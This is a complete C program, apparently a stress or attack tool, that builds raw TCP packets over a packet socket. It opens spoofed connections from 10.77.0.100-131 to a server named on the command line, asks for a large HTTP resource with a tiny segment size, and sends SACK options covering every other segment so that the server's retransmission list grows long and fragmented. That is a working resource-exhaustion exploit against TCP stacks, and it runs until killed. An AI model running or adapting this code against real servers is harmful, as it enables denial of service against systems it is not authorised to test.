// Connections that ask for much and acknowledge it in scraps: small segments, and SACK blocks of every other one, so that the server's list of what
// it has sent is as long and as torn as can be: sack DEVICE DSTMAC DSTIP PORT RATE (acknowledgments a second), until it is killed.
// Their addresses, 10.77.0.100 to 131, are nobody's: what is sent there is read from the wire.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { CONNS = 32, FIRST_PORT = 20000, MSS = 88, TORN = 400 }; // TORN: acknowledgments before all that came is acknowledged at last

struct conn {
    int state;               // 0: nothing, 1: SYN sent, 2: asked
    uint32_t seq, ack, high; // ours, the first octet that is not acknowledged, and the end of what came
    unsigned told;
} conns[CONNS];

static const char *const ask = "GET /big HTTP/1.1\r\nHost: x\r\n\r\n";
static int fd, port;
static uint32_t server;
static struct ether_header eth = { .ether_shost = { 2 } };

static uint32_t sum(uint32_t s, const void *p, size_t n)
{
    const uint8_t *b = p;
    for (size_t i = 0; i < n; i++)
        s += (uint32_t)b[i] << (i & 1 ? 0 : 8);
    return s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return htons((uint16_t)~s);
}

static void out(int i, uint8_t flags, const void *options, size_t olen, const char *data)
{
    uint8_t b[256] = { 0 };
    size_t n = strlen(data);
    struct iphdr *ip = (void *)(b + sizeof eth);
    struct tcphdr *t = (void *)(ip + 1);
    memcpy(b, &eth, sizeof eth);
    *ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = htonl(0x0a4d0064u + (uint32_t)i), .daddr = server };
    ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *t + olen + n));
    ip->check = fold(sum(0, ip, sizeof *ip));
    *t = (struct tcphdr){ .source = htons((uint16_t)(FIRST_PORT + i)), .dest = htons((uint16_t)port), .seq = htonl(conns[i].seq), .doff = (5 + olen / 4) & 15, .window = htons(65535) };
    t->th_flags = flags;
    t->ack_seq = flags & TH_ACK ? htonl(conns[i].ack) : 0;
    memcpy(t + 1, options, olen);
    memcpy((uint8_t *)(t + 1) + olen, data, n);
    size_t len = sizeof *t + olen + n;
    t->check = fold(sum(sum(0, &ip->saddr, 8), t, len) + IPPROTO_TCP + (uint32_t)len);
    conns[i].seq += (uint32_t)n + !!(flags & TH_SYN);
    send(fd, b, sizeof eth + sizeof *ip + len, 0);
}

static void in(const uint8_t *b, ssize_t n)
{
    const struct iphdr *ip = (void *)(b + sizeof eth);
    const struct tcphdr *t = (void *)(ip + 1);
    if (n < (ssize_t)(sizeof eth + sizeof *ip + sizeof *t) || ip->saddr != server || ip->protocol != IPPROTO_TCP || ntohs(t->source) != port)
        return;
    int i = ntohs(t->dest) - FIRST_PORT;
    if (i < 0 || i >= CONNS)
        return;
    struct conn *c = &conns[i];
    uint32_t end = ntohl(t->seq) + ntohs(ip->tot_len) - (uint32_t)sizeof *ip - t->doff * 4u;
    if (t->rst || t->fin) {
        c->state = 0;
    } else if (c->state == 1 && t->syn && t->ack) {
        c->ack = c->high = ntohl(t->seq) + 1;
        c->state = 2;
        out(i, TH_ACK | TH_PUSH, "", 0, ask);
    } else if (c->state == 2 && (int32_t)(end - c->high) > 0) {
        c->high = end;
    }
}

// tear tells of every other segment in a random part of what came; rarely it acknowledges all of it, and there will be more.
static void tear(int i)
{
    struct conn *c = &conns[i];
    static const uint8_t open[] = { TCPOPT_MAXSEG, 4, 0, MSS, TCPOPT_SACK_PERMITTED, 2, TCPOPT_NOP, TCPOPT_NOP, TCPOPT_NOP, TCPOPT_WINDOW, 3, 10 };
    uint8_t o[28] = { TCPOPT_NOP, TCPOPT_NOP, TCPOPT_SACK, 26 };
    uint32_t segments = (c->high - c->ack) / MSS;
    if (c->state != 2) {
        c->seq = (uint32_t)rand(), c->told = 0, c->state = 1;
        out(i, TH_SYN, open, sizeof open, "");
    } else if (segments < 8 || ++c->told % TORN == 0) {
        bool all = c->ack == c->high; // it was given all it asked for, most likely
        c->ack = c->high;
        out(i, TH_ACK, "", 0, all && c->told % 100 == 0 ? ask : "");
    } else {
        uint32_t at = c->ack + MSS * (1 + (uint32_t)rand() % (segments - 6));
        for (int k = 0; k < 3; k++, at += 2 * MSS) {
            uint32_t edge[2] = { htonl(at), htonl(at + MSS) };
            memcpy(o + 4 + 8 * k, edge, sizeof edge);
        }
        out(i, TH_ACK, o, sizeof o, "");
    }
}

int main(int argc, char **argv)
{
    uint8_t b[65536];
    if (argc != 6)
        return 2;
    fd = socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_IP));
    struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_IP), .sll_ifindex = (int)if_nametoindex(argv[1]) };
    if (fd < 0 || bind(fd, (void *)&to, sizeof to) != 0)
        return perror("packet socket"), 1;
    uint8_t *m = eth.ether_dhost;
    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4, m + 5);
    eth.ether_type = htons(ETHERTYPE_IP);
    server = inet_addr(argv[3]), port = atoi(argv[4]);
    srand((unsigned)time(NULL)); // a connection before this one may be in the server's TIME-WAIT
    struct timespec next;
    clock_gettime(CLOCK_MONOTONIC, &next);
    for (int i = 0;; i = (i + 1) % CONNS) {
        ssize_t n;
        while ((n = recv(fd, b, sizeof b, MSG_DONTWAIT)) > 0)
            in(b, n);
        if (conns[i].state != 1 || rand() % 1000 == 0)
            tear(i);
        next.tv_nsec += 1000000000L / atoi(argv[5]);
        next.tv_sec += next.tv_nsec / 1000000000, next.tv_nsec %= 1000000000;
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
    }
}
